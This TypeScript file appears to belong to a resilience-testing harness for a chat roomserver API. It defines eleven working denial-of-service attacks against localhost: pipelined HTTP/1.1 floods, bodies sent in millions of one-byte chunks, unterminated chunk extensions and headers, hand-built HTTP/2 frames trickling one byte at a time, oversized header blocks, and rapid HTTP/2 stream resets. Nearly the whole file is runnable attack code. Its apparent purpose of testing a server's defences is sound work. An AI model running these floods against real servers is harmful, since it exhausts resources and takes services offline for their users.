import { connect as connectTcp, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import type { Attack, AttackGroup } from './attack.ts'
import { connected, repeated } from './send.ts'

/** How long an attack goes on at the most. */
const LONGEST_MS = 20_000

/** How long no answer comes before none is waited for. */
const QUIET_MS = 3_000

const PATH = '/api/roomserver/performJoin'

/** Writes to so many connections as fast as each takes it, and tells how many were answered how. */
async function overTcp(url: string, count: number, parts: () => Iterable<string>): Promise<string> {
  const { port, hostname } = new URL(url)
  const statuses = new Map<string, number>()
  let requests = 0
  const over = AbortSignal.timeout(LONGEST_MS)
  await Promise.all(
    Array.from({ length: count }, async () => {
      const socket = connectTcp(Number(port), hostname).on('error', () => undefined)
      socket.on('data', (chunk: Buffer) => {
        for (const [, status = ''] of chunk.toString('latin1').matchAll(/HTTP\/1\.1 (\d+)/g)) {
          statuses.set(status, (statuses.get(status) ?? 0) + 1)
          requests++
        }
      })
      for (const part of parts()) if (!(await take(socket, part, over))) break
      // Until no more answers come.
      for (let seen = -1; seen !== requests && !socket.destroyed && !over.aborted; await wait(QUIET_MS)) {
        seen = requests
      }
      socket.destroy()
    }),
  )
  return [...statuses].map(([status, times]) => `${times} × ${status}`).join(', ')
}

/** Writes a part, and waits where more is on its way than the peer takes. False: it is over. */
async function take(socket: Socket, part: string, over: AbortSignal): Promise<boolean> {
  if (socket.destroyed || over.aborted) return false
  if (socket.write(part, 'latin1')) return true
  const { promise, resolve } = Promise.withResolvers<void>()
  const done = () => resolve()
  socket.once('drain', done).once('close', done)
  over.addEventListener('abort', done)
  await promise
  socket.off('drain', done).off('close', done)
  over.removeEventListener('abort', done)
  return !socket.destroyed && !over.aborted
}

function request(headers: string, body = ''): string {
  return `POST ${PATH} HTTP/1.1\r\nhost: localhost\r\n${headers}\r\n${body}`
}

function* parts(...texts: readonly (string | Iterable<string>)[]): Generator<string> {
  for (const text of texts) {
    if (typeof text === 'string') yield text
    else yield* text
  }
}

const FRAME = { data: 0, headers: 1, settings: 4 } as const

/** A frame of HTTP/2, byte for byte. */
function frame(type: number, flags: number, stream: number, payload: string): string {
  const { length } = payload
  const head = [length >> 16, (length >> 8) & 255, length & 255, type, flags, 0, 0, stream >> 8, stream & 255]
  return Buffer.from(head).toString('latin1') + payload
}

/** Requests over one connection whose bodies come in frames of a byte. Stays within the window of a connection. */
function* inFrames(streams: number, frames: number): Generator<string> {
  const path = '/api/roomserver/inputRoomEvents'
  // Indexed: POST, http; then the path and the authority as literals.
  const headers = `\x83\x86\x04${String.fromCharCode(path.length)}${path}\x01\x09localhost`
  yield `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${frame(FRAME.settings, 0, 0, '')}`
  for (let index = 0; index < streams; index++) {
    const stream = 2 * index + 1
    yield frame(FRAME.headers, 4, stream, headers)
    yield* repeated(frame(FRAME.data, 0, stream, ' '), frames)
  }
}

/** Opens streams again and again and gives each up at once. */
async function givenUp(url: string, operation: string, body: string): Promise<string> {
  let count = 0
  const until = performance.now() + 5_000
  for (let session = connected(url); performance.now() < until; ) {
    if (session.destroyed || session.closed) session = connected(url)
    for (let streams = 0; streams < 100; streams++) {
      const stream = session.request({ ':method': 'POST', ':path': `/api/roomserver/${operation}` })
      stream.on('error', () => undefined).end(body)
      setImmediate(() => stream.destroy())
      count++
    }
    await wait(5)
    if (performance.now() >= until) session.destroy()
  }
  return `${count} sent`
}

async function headerBlocks(url: string, sessions: number): Promise<string> {
  const statuses = new Map<string, number>()
  const headers = Object.fromEntries(
    Array.from({ length: 60 }, (_, index) => [`x-${index}`, 'y'.repeat(170)]),
  )
  await Promise.all(
    Array.from({ length: sessions }, async () => {
      const session = connected(url)
      const answers = Array.from({ length: 100 }, async () => {
        if (session.destroyed) return 'closed'
        const stream = session.request({ ':method': 'POST', ':path': PATH, ...headers })
        stream.on('error', () => undefined).end('{}')
        return await new Promise<string>((resolve) => {
          stream.once('response', (head) => resolve(String(head[':status'])))
          stream.once('close', () => resolve('closed'))
        })
      })
      for (const answer of await Promise.all(answers)) statuses.set(answer, (statuses.get(answer) ?? 0) + 1)
      session.destroy()
    }),
  )
  return [...statuses].map(([status, times]) => `${times} × ${status}`).join(', ')
}

const attacks: readonly Attack[] = [
  {
    name: '20 connections of HTTP/1.1 with 5,000 requests each, sent without waiting',
    run: (url) => overTcp(url, 20, () => repeated(request('content-length: 2\r\n', '{}'), 5_000)),
  },
  {
    name: '50 bodies in 60,000 chunks of a byte',
    run: (url) =>
      overTcp(url, 50, () =>
        parts(
          request('transfer-encoding: chunked\r\n'),
          repeated('1\r\n \r\n', 60_000),
          '2\r\n{}\r\n0\r\n\r\n',
        ),
      ),
  },
  {
    name: '4 bodies of 4 million chunks of a byte',
    run: (url) =>
      overTcp(url, 4, () =>
        parts(
          request('transfer-encoding: chunked\r\n').replace('performJoin', 'inputRoomEvents'),
          repeated('1\r\n \r\n', 4_000_000),
          '2\r\n{}\r\n0\r\n\r\n',
        ),
      ),
  },
  {
    name: '20 connections of HTTP/2 with a body of 200,000 frames of a byte each',
    run: (url) => overTcp(url, 20, () => inFrames(1, 200_000)),
  },
  {
    name: '20 connections of HTTP/2 with 100 bodies of 1,000 frames of a byte each',
    run: (url) => overTcp(url, 20, () => inFrames(100, 1_000)),
  },
  {
    name: '100 bodies with chunk extensions that do not end',
    run: (url) =>
      overTcp(url, 100, () =>
        parts(request('transfer-encoding: chunked\r\n'), '1;', repeated('x', 1_000_000)),
      ),
  },
  {
    name: '1,000 requests that expect to be told to continue',
    run: (url) => overTcp(url, 1_000, () => [request('expect: 100-continue\r\ncontent-length: 2\r\n', '{}')]),
  },
  {
    name: '1,000 connections with headers that do not end',
    run: (url) =>
      overTcp(url, 1_000, () => parts('POST / HTTP/1.1\r\n', repeated('x-y: zzzzzzzz\r\n', 10_000))),
  },
  { name: '20 connections with 100 blocks of 11 kB of headers each', run: (url) => headerBlocks(url, 20) },
  {
    name: 'short requests, given up at once',
    run: (url) => givenUp(url, 'queryKnownUsers', '{"user_id":"@a:a","search_string":"a","limit":100}'),
  },
  {
    name: 'joins, given up at once',
    run: (url) => givenUp(url, 'performJoin', `{"room_id_or_alias":"!r:a","user_id":"@u:a"}`),
  },
]

/** Requests by how their connections speak HTTP. */
export const connections: AttackGroup = { name: 'connections', attacks }
